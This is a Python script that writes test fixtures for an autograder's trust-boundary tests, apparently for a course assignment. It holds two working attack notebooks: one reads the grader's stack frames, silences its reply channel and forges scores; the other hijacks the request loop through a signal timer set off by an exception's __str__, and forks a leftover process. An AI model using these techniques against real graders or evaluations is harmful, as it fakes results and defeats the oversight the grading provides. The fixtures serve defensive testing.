# ruff: noqa: E501  (the fixtures are code in strings; their lines follow the code they hold)
"""Write the trust-boundary attack fixtures (tests/test_trust_boundary.py), issue 17.

Submissions of ``ps4_autograd`` built like those of ``tests/attacks/make_fixtures.py``,
each an attack that scored full marks on the grader of the second round:

* ``forged_reply_from_the_stack``: the graded function raises ``NotImplementedError``,
  but first finds the reply descriptor and the request on its own call stack, keeps a
  copy of the descriptor, silences the request loop (its descriptor now leads to
  ``/dev/null``) and writes its own replies, computed by a hidden helper;
* ``handler_outside_the_watch``: a cell arms a timer whose handler, when it finds
  the request loop waiting, takes the loop over and answers every request itself,
  with a function that uses the banned ``torch.optim``, outside any watched call.

Run ``python tests/attacks/trust_boundary/make.py`` to regenerate.
"""

from __future__ import annotations

import importlib.util
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent


def _base():
    spec = importlib.util.spec_from_file_location(
        "make_fixtures", HERE.parent / "make_fixtures.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


FIND_LOOP = '''
def _loop_frame():
    """The request loop's frame: the first one up the stack that holds the reply descriptor."""
    frame = sys._getframe(1)
    while frame is not None and "reply_fd" not in frame.f_locals:
        frame = frame.f_back
    return frame
'''

FORGED = (
    "import json, os, sys\nimport torch\n"
    + FIND_LOOP
    + '''
_kept = []


def _fit(x, y, learn_rate, epochs, w0=0.0, b0=0.0):
    w = torch.tensor(float(w0), dtype=x.dtype, requires_grad=True)
    b = torch.tensor(float(b0), dtype=x.dtype, requires_grad=True)
    losses = []
    for _ in range(epochs):
        loss = torch.mean((w * x + b - y) ** 2)
        losses.append(loss.item())
        loss.backward()
        with torch.no_grad():
            w -= learn_rate * w.grad
            b -= learn_rate * b.grad
        w.grad.zero_()
        b.grad.zero_()
    return w.item(), b.item(), losses


def train_autograd(x, y, learn_rate, epochs, w0=0.0, b0=0.0):
    """Fit y = w x + b by gradient descent on the MSE, gradients from autograd."""
    frame = _loop_frame()
    if frame is not None:
        loop = frame.f_locals
        try:
            from gdcourse.grading.protocol import encode
            request = json.loads(loop["text"])
            probe = loop["probes"][request["assignment"]][request["function"]]
            payload = json.dumps({"data": encode(probe(_fit, request["case"]))}).encode()
        except Exception:
            payload = b"{}"
        token = loop.get("token", b"0" * 32)
        fd = loop["reply_fd"]
        if not _kept:
            _kept.append(os.dup(fd))
            os.dup2(os.open(os.devnull, os.O_WRONLY), fd)  # the loop's own replies: nowhere
        body = token + payload
        os.write(_kept[0], len(body).to_bytes(4, "big") + body)
    raise NotImplementedError()'''
)

OPTIM = """import json, os, signal, sys
import torch


def train_autograd(x, y, learn_rate, epochs, w0=0.0, b0=0.0):
    \"\"\"Fit y = w x + b by gradient descent on the MSE, gradients from autograd.\"\"\"
    w = torch.tensor(float(w0), dtype=x.dtype, requires_grad=True)
    b = torch.tensor(float(b0), dtype=x.dtype, requires_grad=True)
    optimizer = torch.optim.SGD([w, b], lr=learn_rate)
    losses = []
    for _ in range(epochs):
        optimizer.zero_grad()
        loss = torch.mean((w * x + b - y) ** 2)
        losses.append(loss.item())
        loss.backward()
        optimizer.step()
    return w.item(), b.item(), losses"""

TAKEOVER = '''import json, os, signal, sys


def _take_over(signum, frame):
    """Runs when the timer fires: does nothing unless the request loop is waiting."""
    if frame is None or frame.f_code.co_name != "read_exactly":
        return
    if frame.f_locals.get("data") != b"" or frame.f_locals.get("count") != 4:
        return
    loop = frame.f_back.f_locals
    signal.setitimer(signal.ITIMER_REAL, 0)
    from gdcourse.grading.protocol import encode
    request_fd, reply_fd = loop["request_fd"], loop["reply_fd"]

    def read(count):
        data = b""
        while len(data) < count:
            chunk = os.read(request_fd, count - len(data))
            if not chunk:
                os._exit(0)
            data += chunk
        return data

    while True:  # every request from now on, answered here, outside any watched call
        frame_bytes = read(int.from_bytes(read(4), "big"))
        operation, token = frame_bytes[0], frame_bytes[1:33]
        if operation == 3:
            os._exit(0)
        size = int.from_bytes(frame_bytes[33:35], "big")
        request = json.loads(frame_bytes[35 + size:])
        probe = loop["probes"][request["assignment"]][request["function"]]
        body = token + json.dumps({"data": encode(probe(train_autograd, request["case"]))}).encode()
        os.write(reply_fd, len(body).to_bytes(4, "big") + body)


class Armed(Exception):
    def __str__(self):  # the grader describes a cell's error: this runs then
        signal.signal(signal.SIGALRM, _take_over)
        signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
        return "armed"



if os.fork() == 0:  # a process left behind: the grader waits a little longer to stop it
    import time
    time.sleep(60)
    os._exit(0)
raise Armed()'''


def scenarios():
    """Scenario name -> notebook."""
    base = _base()
    return {
        "forged_reply_from_the_stack": base.student(FORGED),
        "handler_outside_the_watch": base.student(OPTIM, extra_cells=[TAKEOVER]),
    }


def text(notebook) -> str:
    return json.dumps(notebook, indent=1) + "\n"


def main():
    for name, notebook in scenarios().items():
        (HERE / f"{name}.ipynb").write_text(text(notebook))


if __name__ == "__main__":
    main()
